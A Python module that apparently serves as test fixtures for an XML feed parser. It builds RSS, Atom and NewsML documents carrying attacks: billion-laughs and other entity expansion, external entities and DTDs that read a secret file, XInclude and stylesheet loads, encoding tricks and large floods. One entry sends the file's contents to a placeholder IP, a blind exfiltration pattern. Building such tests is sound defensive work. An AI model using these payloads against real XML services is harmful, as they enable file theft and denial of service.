"""Documents that attack XML readers, each embedded in a feed that is valid without the attack."""

import gzip
from collections.abc import Callable
from string import Template
from typing import Final

SECRET: Final = "the-word-that-must-not-get-out"  # noqa: S105
"""Content of the file that attacks try to read."""

TEMPLATES: Final = {
    "rss": Template(
        '$prolog<rss version="2.0" $attributes><channel><title>T</title><link>https://post.example.com/</link>'
        "<description>D</description><item><guid>a</guid><title>$text</title>$inside</item></channel></rss>"
    ),
    "atom": Template(
        '$prolog<feed xmlns="http://www.w3.org/2005/Atom" $attributes><title>T</title><id>urn:x:f</id>'
        "<updated>2026-03-02T12:00:00Z</updated><entry><id>urn:x:a</id><title>$text</title>$inside</entry></feed>"
    ),
    "newsml": Template(
        '$prolog<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/" $attributes><header/><itemSet>'
        '<newsItem guid="urn:x:a" version="1" standard="NewsML-G2" standardversion="2.35"><contentMeta>'
        "<headline>$text</headline>$inside</contentMeta></newsItem></itemSet></newsMessage>"
    ),
}
"""Feed templates by format name."""


class Host:
    """Builder of a feed with an attack in it.

    Args:
        name: the name of the format.
        secret: URL of the file that attacks try to read.
    """

    def __init__(self, name: str, secret: str) -> None:
        self._template = TEMPLATES[name]
        self.secret = secret

    def __call__(self, *, prolog: str = "", attributes: str = "", text: str = "t", inside: str = "") -> bytes:
        """Return the document.

        Args:
            prolog: markup before the root element.
            attributes: attributes of the root element.
            text: content of the title or headline, as markup.
            inside: markup inside the item.
        """
        return self._template.substitute(prolog=prolog, attributes=attributes, text=text, inside=inside).encode()

    def dtd(self, subset: str, text: str = "&x;", inside: str = "") -> bytes:
        """Return the document with an internal DTD subset."""
        return self(prolog=f'<?xml version="1.0"?><!DOCTYPE x [{subset}]>', text=text, inside=inside)


def _billion_laughs(host: Host) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return host.dtd(f'<!ENTITY l0 "ha">{levels}', "&l9;")


def _nested(opening: str, closing: str, depth: int) -> Callable[[Host], bytes]:
    return lambda host: host(inside=opening * depth + closing * depth)


def _inside(markup: str) -> Callable[[Host], bytes]:
    return lambda host: host(inside=markup)


ATTACKS: Final[dict[str, Callable[[Host], bytes]]] = {
    # entities
    "billion laughs": _billion_laughs,
    "quadratic blowup": lambda host: host.dtd(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 50_000),
    "small entity": lambda host: host.dtd(f'<!ENTITY x "{"A" * 300}">', "&x;" * 100),
    "circular entities": lambda host: host.dtd('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "external entity, file": lambda host: host.dtd(f'<!ENTITY x SYSTEM "{host.secret}">'),
    "external entity, network": lambda host: host.dtd('<!ENTITY x SYSTEM "http://203.0.113.1/x">'),
    "public entity": lambda host: host.dtd(f'<!ENTITY x PUBLIC "-//X//Y//EN" "{host.secret}">'),
    "entity in an attribute": lambda host: host.dtd(f'<!ENTITY x SYSTEM "{host.secret}">', "t", '<link href="&x;"/>'),
    "parameter entity": lambda host: host.dtd(f'<!ENTITY % p SYSTEM "{host.secret}">%p;', "t"),
    "nested parameter entities": lambda host: host.dtd(
        f'<!ENTITY % f SYSTEM "{host.secret}"><!ENTITY % e "<!ENTITY x SYSTEM \'http://203.0.113.1/%f;\'>">%e;'
    ),
    "external DTD, file": lambda host: host(prolog=f'<!DOCTYPE x SYSTEM "{host.secret}">', text="&x;"),
    "external DTD, network": lambda host: host(prolog='<!DOCTYPE x SYSTEM "http://203.0.113.1/x.dtd">'),
    "file disguised as a legacy DTD": lambda host: host(
        prolog=f'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{host.secret}?netscape.com/rss-0.91.dtd">',
        text="&x;",
    ),
    "legacy DTD with an internal subset": lambda host: host(
        prolog='<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd" '
        f'[<!ENTITY x SYSTEM "{host.secret}">]>',
        text="&x;",
    ),
    "default attributes": lambda host: host.dtd(f'<!ATTLIST title a CDATA "{"A" * 9999}">', "t", "<title/>" * 999),
    "DTD after comments": lambda host: host(
        prolog=f'<!-- a --><?b c?><!-- > --> <!DOCTYPE x [<!ENTITY x SYSTEM "{host.secret}">]>', text="&x;"
    ),
    "unterminated DTD": lambda _host: b"<!DOCTYPE x [" + b'<!ENTITY a "b">' * 100_000,
    "unknown entities": lambda host: host(text="&nothing;" * 20_000),
    "unterminated references": lambda host: host(text="&" * 300_000),
    "illegal character references": lambda host: host(text="&#0;&#xD800;&#xFFFFFFFF;" * 20_000),
    # other features that load resources
    "XInclude": lambda host: host(
        inside=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{host.secret}" parse="text"/>'
    ),
    "stylesheet": lambda host: host(prolog=f'<?xml-stylesheet type="text/xsl" href="{host.secret}"?>'),
    "schema location": lambda host: host(
        attributes=f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {host.secret}"'
    ),
    # encodings
    "UTF-7": lambda host: b'<?xml version="1.0" encoding="UTF-7"?>' + host(text="+ADw-script+AD4-"),
    "unknown encoding": lambda host: b'<?xml version="1.0" encoding="rot13"?>' + host(),
    "gzip": lambda host: gzip.compress(host(text="A" * 1_000_000), mtime=0),
    "UTF-16 without a byte order mark": lambda host: host().decode().encode("utf-16-le"),
    "UTF-32": lambda host: host().decode().encode("utf-32"),
    "NULs": lambda host: host(text="\0" * 100_000),
    "truncated UTF-8 sequence": lambda host: host(text="t").replace(b">t<", b">\xf0\x9f\x98<"),
    "overlong UTF-8": lambda host: host(text="t").replace(b">t<", b">\xc0\xbcscript\xc0\xbe<"),
    # floods
    "attributes": lambda host: host(inside="<x " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"),
    "namespaces": lambda host: host(attributes=" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(50_000))),
    "nested namespaces": lambda host: host(
        inside="".join(f'<n{n}:a xmlns:n{n}="urn:{n}">' for n in range(150))
        + "".join(f"</n{n}:a>" for n in reversed(range(150)))
    ),
    "undeclared prefixes": lambda host: host(inside="".join(f"<p{n}:a/>" for n in range(50_000))),
    "empty elements": _inside("<x/>" * 100_000),
    "depth": _nested("<x>", "</x>", 10_000),
    "depth within the limit": _nested("<div>", "</div>", 190),
    "text": _inside(f"<x>{'A' * 12_000_000}</x>"),
    "attribute value": _inside(f'<x a="{"A" * 12_000_000}"/>'),
    "comments": _inside("<!---->" * 300_000),
    "unterminated comments": _inside("<!--" * 100_000),
    "processing instructions": _inside("<?a b?>" * 300_000),
    "CDATA": _inside("<![CDATA[a]]>" * 300_000),
    "unterminated CDATA": _inside("<![CDATA[" * 100_000),
    "element name": _inside(f"<{'n' * 1_000_000}/>"),
    "attribute name": _inside(f'<x {"n" * 1_000_000}="1"/>'),
    "unterminated tags": _inside("<a " * 20_000),
    "end tags": _inside("</a>" * 300_000),
    "whitespace before the document": lambda host: b" \n" * 200_000 + b"<?xml version='1.0'?>" + host(),
    "less-than signs only": lambda _host: b"<" * 1_000_000,
    "quotation marks": _inside("<x a='" * 20_000),
    "duplicate attribute": _inside('<x a="1" a="2"/>'),
    "items": lambda host: host().replace(b"</channel>", b"<item/>" * 5_000 + b"</channel>"),
}
"""Functions that build the document of each attack, by name of the attack."""
